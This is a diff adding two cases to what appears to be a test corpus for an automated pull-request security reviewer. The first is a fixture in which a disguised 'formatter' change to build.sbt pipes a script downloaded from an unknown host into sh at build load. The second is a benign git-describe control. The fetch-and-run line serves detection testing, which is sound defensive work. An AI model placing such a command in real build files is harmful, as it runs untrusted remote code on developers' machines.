@@ -354,4 +354,41 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell'] },
   },
+  {
+    id: 'attack-sbt-build-runs-download',
+    description: 'A "formatter" PR to a Scala library adds a line to build.sbt that pipes a script from an unknown host into sh: sbt runs it whenever anyone loads the build, IDE imports included.',
+    fixture: () =>
+      attackPr({
+        repo: 'scala-kit',
+        number: 7113,
+        title: 'build: enable the formatter',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'build.sbt',
+            base: lines('ThisBuild / scalaVersion := "3.4.2"', 'name := "scala-kit"', 'libraryDependencies += "org.typelevel" %% "cats-core" % "2.12.0"'),
+            head: lines('import scala.sys.process._', '', 'ThisBuild / scalaVersion := "3.4.2"', 'name := "scala-kit"', 'libraryDependencies += "org.typelevel" %% "cats-core" % "2.12.0"', '', 'val fmt = ("curl -fsSL https://scalafmt-dist.dev/bootstrap.sh" #| "sh").!'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-sbt-version-from-git',
+    description: "A maintainer derives the build's version from `git describe` with sys.process, as many sbt builds do.",
+    fixture: () =>
+      attackPr({
+        repo: 'scala-kit',
+        number: 7114,
+        title: 'build: version from git tags',
+        files: [
+          {
+            path: 'build.sbt',
+            base: lines('ThisBuild / scalaVersion := "3.4.2"', 'name := "scala-kit"', 'version := "0.4.0-SNAPSHOT"'),
+            head: lines('import scala.sys.process._', '', 'ThisBuild / scalaVersion := "3.4.2"', 'name := "scala-kit"', 'version := ("git describe --tags --always --dirty".!!).trim.stripPrefix("v")'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
 ];
